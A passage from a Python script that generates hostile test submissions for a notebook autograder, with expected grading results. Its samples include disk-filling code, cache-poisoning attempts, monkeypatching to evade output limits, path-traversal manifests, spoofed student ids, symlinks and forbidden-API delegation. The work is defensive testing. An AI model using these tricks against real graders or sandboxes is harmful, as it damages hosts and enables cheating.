        append_code(nb, '// 실험\nawait new Promise((r) => setTimeout(r, 400000));\nconsole.log("slept 400 s");')
    fx["sleepy"] = nb
    expected["sleepy"] = {"status": "graded", "score": 10, "flag": "wall-limit", "why": "3 × 400 s of sleep held a slot for 1200 s"}

    # the connection folder (the sandbox's one read-write place on the host): 20 × 50 MB written there
    # went to the host's disk. As root it is a 1 MB tmpfs now (without root sandbox.py kills the kernel).
    fx["conn-dir-diskfill"] = append_code(solved(student, source, allq), r"""// 실험
{ const fs: any = require("fs"), path = require("path");
  const connDir = path.dirname(process.argv[process.argv.length - 1]);
  const chunk = Buffer.alloc(50 << 20, 1);
  let n = 0;
  try { for (let i = 0; i < 20; i++) { fs.writeFileSync(path.join(connDir, "fill" + i), chunk); n++; } } catch (e: any) { console.log("stopped", e.code); }
  console.log("wrote", n, "x 50 MB into the connection folder"); }""")
    expected["conn-dir-diskfill"] = {"status": "graded", "score": 10, "executed_has": "wrote 0 x 50 MB",
                                     "why": "1001 MB reached the host's disk"}

    # the compile cache the grader warms before any kernel runs (build/kernel-cache in the sandbox): a kernel
    # that could write it would hand every later kernel its own src/ (here: a matrix.js that throws)
    fx["cache-poison"] = append_code(solved(student, source, allq), r"""// 실험
{ const fs: any = require("fs"), path = require("path");
  const dir = path.join(process.cwd(), "build", "kernel-cache");
  const names: string[] = fs.readdirSync(dir).filter((f: string) => f.endsWith(".json"));
  const codes = new Set<string>();
  let changed = 0;
  const attempt = (f: () => void) => { try { f(); changed++; } catch (e: any) { codes.add(String(e.code)); } };
  for (const f of names) {
    const entry = JSON.parse(fs.readFileSync(path.join(dir, f), "utf8"));
    for (const k of Object.keys(entry.outputs)) for (const o of entry.outputs[k]) o.data = 'throw new Error("poisoned");';
    attempt(() => fs.writeFileSync(path.join(dir, f), JSON.stringify(entry)));
  }
  attempt(() => fs.writeFileSync(path.join(dir, "extra.json"), "{}"));
  if (names.length) attempt(() => fs.renameSync(path.join(dir, names[0]), path.join(dir, "moved.json")));
  if (names.length) attempt(() => fs.unlinkSync(path.join(dir, names[0])));
  console.log("cache:", names.length > 0 ? "entries" : "empty", process.env.MLP_KERNEL_CACHE, "changed", changed, [...codes].join(","));
}""")
    expected["cache-poison"] = {"status": "graded", "score": 10, "executed_has": "cache: entries readonly changed 0 EROFS",
                                "why": "named to be graded before honest-a and honest-b"}

    # the kernel's output cap counted with JSON.parse and Buffer.byteLength as the cell left them: replaced, every
    # 10 MB write went to the grader (whose own cap still dropped them, after holding each in memory)
    fx["output-cap-bypass"] = append_code(solved(student, source, allq), r"""// 실험
{ const parse = JSON.parse, byteLength = Buffer.byteLength, get = Map.prototype.get;
  (JSON as any).parse = function (s: any, r?: any) { if (typeof s === "string" && s.length > 100000) throw new Error("nope"); return parse.call(this, s, r); };
  (Buffer as any).byteLength = () => 0;
  (Map.prototype as any).get = function (k: unknown) { return typeof k === "string" && k.length === 32 ? 0 : get.call(this, k); };
  const s = "a".repeat(10 << 20);
  for (let i = 0; i < 10; i++) { process.stdout.write(s); await new Promise((r) => setTimeout(r, 200)); }
  (JSON as any).parse = parse; (Buffer as any).byteLength = byteLength; (Map.prototype as any).get = get;
  console.log("after flood");
}""")
    expected["output-cap-bypass"] = {"status": "graded", "score": 10, "flag": "output-limit", "max_dropped_mb": 12,
                                     "why": "100 MB reached the grader"}

    # one message over the kernel's 16 MB limit is dropped there unseen; it had also counted toward the notebook's
    # total, so every later output of the notebook (the next cell's text, errors, the probes') vanished too
    fx["oversize-message"] = append_code(append_code(solved(student, source, allq), r"""// 실험
process.stdout.write("z".repeat(17 << 20));
console.log("line after the 17 MB write");"""), r"""// 실험
console.log(["next cell", "printed after the 17 MB write"].join(" "));""")
    expected["oversize-message"] = {"status": "graded", "score": 10, "executed_has": "next cell printed after the 17 MB write",
                                    "why": "the rest of the notebook's output was gone, with no flag"}

    # malformed metadata.mlp_hw.locked_sha256 (the grader reads it): unreadable, never grader-error
    for name, bad in (("locked-sha-string", "setup"), ("locked-sha-int", 5)):
        nb = solved(student, source, allq)
        nb.metadata["mlp_hw"]["locked_sha256"] = bad
        fx[name] = nb
        expected[name] = {"status": "unreadable", "score": 0, "why": "was grader-error with a traceback"}

    # a FIFO named like a notebook (tar run as root restores FIFOs): git cannot hold one, so the test makes
    # it in its copy of this folder (expected entries with "mkfifo")
    expected["fifo"] = {"status": "unreadable", "score": 0, "mkfifo": "fifo.ipynb", "why": "opening a FIFO blocked grade forever"}

    # bundles (folders with manifest.json)
    # A bundle's id is its folder name without the "hw01-" `submit` puts in front; the manifest's "student"
    # is compared with it and never trusted.
    stub = solved(student, source, [])
    bundles["hw01-thief"] = ({"assignment": "hw01", "student": "thief", "notebook": "../honest-a.ipynb"}, None)
    expected["thief"] = {"status": "unreadable", "score": 0, "why": "a manifest path outside the bundle"}
    bundles["hw01-thief2"] = ({"assignment": "hw01", "student": "thief2", "notebook": "/proc/self/cwd/homework/hw01/hw01.ipynb"}, None)
    expected["thief2"] = {"status": "unreadable", "score": 0}
    bundles["bundle-evil-id"] = ({"assignment": "hw01", "student": "/proc/self/cwd/homework/hw01/hw01", "notebook": "hw01.ipynb"}, stub)
    expected["bundle-evil-id"] = {"status": "graded", "score": 0, "flag": "manifest-student-mismatch",
                                  "why": "the manifest's id named the instructor's source"}
    bundles["hw01-s-dup"] = ({"assignment": "hw01", "student": "s-dup", "notebook": "hw01.ipynb"}, stub)
    fx["s-dup"] = solved(student, source, allq)  # the same id twice: a bundle and a plain file
    expected["s-dup"] = {"status": "duplicate-student", "score": 0, "flag": "duplicate-student"}
    bundles["hw01-linker"] = ({"assignment": "hw01", "student": "linker", "notebook": "hw01.ipynb"}, "->../honest-a.ipynb")
    expected["linker"] = {"status": "unreadable", "score": 0}
    # a bundle claiming a classmate's id must not knock the classmate out of the run
    fx["20240001"] = solved(student, source, allq)
    expected["20240001"] = {"status": "graded", "score": 10, "why": "a classmate's manifest claims this id"}
    bundles["claim-classmate-id"] = ({"assignment": "hw01", "student": "20240001", "notebook": "hw01.ipynb"}, stub)
    expected["claim-classmate-id"] = {"status": "graded", "score": 0, "flag": "manifest-student-mismatch"}
    symlinks = {"linked.ipynb": "honest-a.ipynb"}
    expected["linked"] = {"status": "unreadable", "score": 0, "why": "symlinks are refused"}

    if os.path.isdir(out):
        import shutil
        shutil.rmtree(out)
    os.makedirs(out)
    for name, nb in fx.items():
        path = os.path.join(out, name + ".ipynb")
        if isinstance(nb, str):
            with open(path, "w", encoding="utf-8") as f:
                f.write(nb)
        else:
            nbformat.write(stable_ids(nb, name), path)
    for folder, (man, nb) in bundles.items():
        d = os.path.join(out, folder)
        os.makedirs(d)
        with open(os.path.join(d, "manifest.json"), "w", encoding="utf-8") as f:
            json.dump(man, f, indent=1)
        if isinstance(nb, str) and nb.startswith("->"):
            os.symlink(nb[2:], os.path.join(d, man["notebook"]))
        elif nb is not None:
            nbformat.write(stable_ids(nb, folder), os.path.join(d, man["notebook"]))
    for rel, text in raw_files.items():
        os.makedirs(os.path.dirname(os.path.join(out, rel)), exist_ok=True)
        with open(os.path.join(out, rel), "w", encoding="utf-8") as f:
            f.write(text)
    for name, target in symlinks.items():
        os.symlink(target, os.path.join(out, name))
    with open(os.path.join(out, "expected.json"), "w", encoding="utf-8") as f:
        json.dump(expected, f, ensure_ascii=False, indent=1)
        f.write("\n")
    print("make_fixtures: wrote %d hostile submissions to %s" % (len(expected), os.path.relpath(out, ROOT)))


def hostile_hw02(out):
    """hw02's text forbids answering with NeuralNetwork, while its own check cells use it."""
    source = load(os.path.join(ROOT, "homework", "hw02", "hw02.ipynb"))
    student = make_student_notebook(source, "hw02")
    auto = ["forwardL", "backwardL", "trainL"]
    fx, expected = {}, {}
    fx["honest"] = solved(student, source, auto)
    expected["honest"] = {"status": "graded", "score": 8, "why": "the check cells use NeuralNetwork and still pass"}
    nb = solved(student, source, [])
    cell(nb, "forwardL").source = """function netOf(W: Matrix[]): NeuralNetwork {
  const net = new NeuralNetwork([W[1].cols, ...W.slice(1).map((w) => w.rows)]);
  net.setWeights(...W.slice(1).map((w) => w.clone()));
  return net;
}
function forwardL(W: Matrix[], X: Matrix): { Z: Matrix[]; A: Matrix[] } {
  return netOf(W).forward(X);
}"""
    cell(nb, "backwardL").source = """function backwardL(W: Matrix[], cache: { Z: Matrix[]; A: Matrix[] }, Y: Matrix, rule: "lecture" | "exact"): { E: Matrix[]; dZ: Matrix[]; dW: Matrix[] } {
  const net = netOf(W);
  return net.backward(net.forward(cache.A[0]), Y, rule);
}"""
    cell(nb, "trainL").source = """function trainL(W: Matrix[], X: Matrix, Y: Matrix, eta: number, epochs: number, rule: "lecture" | "exact"): { W: Matrix[]; cost: number[] } {
  const net = netOf(W); const cost: number[] = [];
  for (let e = 0; e < epochs; e++) { const g = net.backward(net.forward(X), Y, rule); cost.push(Math.sqrt(g.E[net.L].mul(g.E[net.L]).sum())); net.update(g, eta); }
  return { W: net.W, cost };
}"""
    fx["delegate"] = nb
    expected["delegate"] = {"status": "graded", "score": 0, "flag": "forbidden-api:NeuralNetwork",
                            "why": "every answer delegated to NeuralNetwork (forbidden by the text)"}
    if os.path.isdir(out):
        import shutil
        shutil.rmtree(out)
    os.makedirs(out)
    for name, nb in fx.items():
        nbformat.write(stable_ids(nb, name), os.path.join(out, name + ".ipynb"))
    with open(os.path.join(out, "expected.json"), "w", encoding="utf-8") as f:
        json.dump(expected, f, ensure_ascii=False, indent=1)
        f.write("\n")
    print("make_fixtures: wrote %d hostile hw02 submissions to %s" % (len(expected), os.path.relpath(out, ROOT)))


HOSTILE_PORT = 47913


if __name__ == "__main__":
    hw01(os.path.join(ROOT, "homework", "fixtures", "hw01"))
    hostile(os.path.join(ROOT, "homework", "fixtures", "hostile"), HOSTILE_PORT)
    hostile_hw02(os.path.join(ROOT, "homework", "fixtures", "hostile-hw02"))
